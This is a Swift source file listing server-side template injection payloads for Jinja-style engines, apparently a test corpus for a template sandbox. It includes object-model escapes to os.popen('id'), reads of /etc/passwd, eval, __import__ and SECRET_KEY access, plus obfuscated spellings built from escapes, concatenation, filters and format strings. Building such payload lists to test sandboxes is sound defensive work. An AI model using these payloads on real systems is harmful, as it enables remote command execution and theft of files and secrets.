/// Texts with which people break out of template engines: the known ways through Python's object model, in the
/// spellings that filters, subscripts, formats, escapes and concatenation allow.
enum Injections {
    private static let roots = [
        "''", "s", "[]", "d", "()", "1", "1.5", "none", "true", "missing", "messages", "messages[0]", "range(1)",
        "range",
        "dict", "namespace()", "namespace", "cycler('a')", "cycler", "joiner()", "joiner", "lipsum", "loop", "self",
        "request", "config", "g", "url_for", "get_flashed_messages", "app", "session", "strftime_now",
        "raise_exception",
        "d.items()", "d.get", "s.upper", "s.format", "(s|safe)", "(s|list)", "(s|map('upper'))", "caller", "varargs",
    ]
    private static let paths = [
        ".__class__.__mro__[1].__subclasses__()", "['__class__']['__base__']['__subclasses__']()",
        "|attr('__class__')|attr('__mro__')|last", ".__init__.__globals__['os'].popen('id').read()",
    ]
    private static let whole = [
        "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}", "{{ ''['__cla' ~ 'ss__'].__mro__ }}",
        "{{ ()|attr('_'*2 ~ 'class' ~ '_'*2) }}",
        "{{ '%c%c' % (95, 95) ~ 'class' }}", "{{ ['__class__']|map('attr', '__class__')|list }}",
        "{{ [s]|map(attribute='__class__.__mro__')|list }}", "{{ [s]|sort(attribute='__class__')|list }}",
        "{{ [s]|selectattr('__class__.__base__')|list }}", "{{ [s]|groupby('__class__')|list }}",
        "{{ [s]|sum(attribute='__class__') }}", "{{ [s]|join(',', attribute='__class__.__name__') }}",
        "{{ '{0.__class__.__init__.__globals__}'.format(s) }}", "{{ '{x.__class__}'.format(x=s) }}",
        "{{ ('{0.__class__}'|safe).format(s) }}", "{{ s|format(s.__class__) }}", "{{ '{0[__class__]}'.format(d) }}",
        "{{ 'a'.format.__self__ }}", "{{ s.format_map(d) }}", "{{ ('{.__class__}' | attr('format'))(s) }}",
        "{{ ['{0.__class__}']|map('attr','format')|list }}", "{{ d.__getattribute__('x') }}", "{{ s.__getitem__(0) }}",
        "{% set x = s.__class__ %}{{ x.__mro__ }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
        "{% set ns = namespace(__class__=1) %}", "{% set ns = namespace() %}{% set ns.__class__ = 1 %}",
        "{% macro m() %}{{ varargs.__class__ }}{{ kwargs.__init__ }}{% endmacro %}{{ m() }}{{ m.__globals__ }}",
        "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}", "{{ range.__init__.__self__ }}",
        "{% include '/etc/passwd' %}", "{% import 'os' as os %}{{ os.popen('id') }}", "{% from 'os' import popen %}",
        "{% extends '/etc/passwd' %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ joiner.__init__.__globals__.os }}", "{{ lipsum.__globals__.os.popen('id').read() }}", "{{ lipsum(5) }}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
        "{{ self.__init__.__globals__.__builtins__ }}",
        "{{ strftime_now.__globals__ }}", "{{ raise_exception.__code__ }}", "{{ dict.__base__.__subclasses__() }}",
        "{{ dict.mro() }}", "{{ dict.fromkeys.__self__ }}", "{{ (1).__class__.__bases__ }}", "{{ 1.0.__class__ }}",
        "{% for x in [1] %}{{ loop.__class__ }}{{ loop._iterable }}{{ loop.__init__.__globals__ }}{% endfor %}",
        "{{ messages.append('x') }}", "{{ messages.__iadd__([1]) }}", "{{ d.update({'a': 2}) }}{{ d }}",
        "{{ d.pop('a') }}",
        "{{ d.setdefault('b', 1) }}", "{{ messages.clear() }}", "{{ messages.sort() }}", "{{ d.__setitem__('a', 1) }}",
        "{{ open('/etc/passwd').read() }}", "{{ eval('1+1') }}", "{{ __import__('os') }}", "{{ __builtins__ }}",
        "{{ exec('x') }}", "{{ globals() }}", "{{ environ }}", "{{ settings.SECRET_KEY }}",
        "{{ getattr(s, '__class__') }}",
        "{{ s.encode('utf-16').decode }}", "{{ s.translate({}) }}", "{{ s.maketrans('a', 'b') }}", "{{ s|xmlattr }}",
        "{{ d|pprint }}", "{{ messages|random }}", "{{ s|urlize }}", "{% debug %}", "{% do d.update({}) %}",
        "{% autoescape true %}{{ s }}{% endautoescape %}", "{% trans %}x{% endtrans %}",
        "{% block a %}{{ self.a.__func__ }}{% endblock %}",
        "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ 7*'7' }}", "{{ [].__class__.__base__ | string }}", "{{ ''.__doc__ }}",
        "{{ d.get.__self__ }}", "{{ d.items.__call__ }}", "{{ s.__reduce_ex__(2) }}", "{{ s.__sizeof__() }}",
        "{{ s.__dir__() }}",
    ]

    static let all = whole + roots.flatMap { root in paths.map { "{{ \(root)\($0) }}" } }
}
